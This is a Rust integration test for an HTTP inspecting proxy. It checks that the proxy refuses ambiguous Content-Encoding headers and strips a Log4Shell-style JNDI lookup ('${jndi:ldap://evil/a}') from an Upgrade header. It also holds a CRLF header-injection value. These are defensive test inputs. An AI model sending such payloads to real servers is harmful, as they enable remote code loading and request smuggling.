//! Requests whose content the detector could not see as the origin would.

use crate::support::client::exchange;
use crate::support::origin::Origin;
use crate::support::weir::Setup;

#[tokio::test]
async fn what_inspection_cannot_see_is_refused_where_it_is_enforced() {
    let origin = Origin::echo().await;
    let mut setup = Setup::new(origin.address);
    setup
        .routes
        .push("{id: shadow, path: /shadow, upstream: app, mode: shadow}".to_owned());
    let weir = setup.start().await;
    for (path, encoding, status) in [
        ("/", "gzip", 200),
        ("/", "gzip, gzip", 415),
        ("/", "identity\r\nContent-Encoding: gzip", 415),
        ("/shadow", "gzip, gzip", 200),
    ] {
        let request = format!(
            "POST {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Encoding: {encoding}\r\nContent-Length: 1\r\n\r\nx"
        );
        let answer = exchange(weir.address, request.as_bytes()).await;
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {status}")),
            "{path} {encoding}: {answer}"
        );
    }
    // `Upgrade` travels on without having been inspected, so it can only name a protocol.
    let request = "GET /upgrade HTTP/1.1\r\nHost: a\r\nConnection: close, upgrade\r\nUpgrade: ${jndi:ldap://evil/a}\r\n\r\n";
    let answer = exchange(weir.address, request.as_bytes()).await;
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(!answer.contains("jndi"), "{answer}");
}
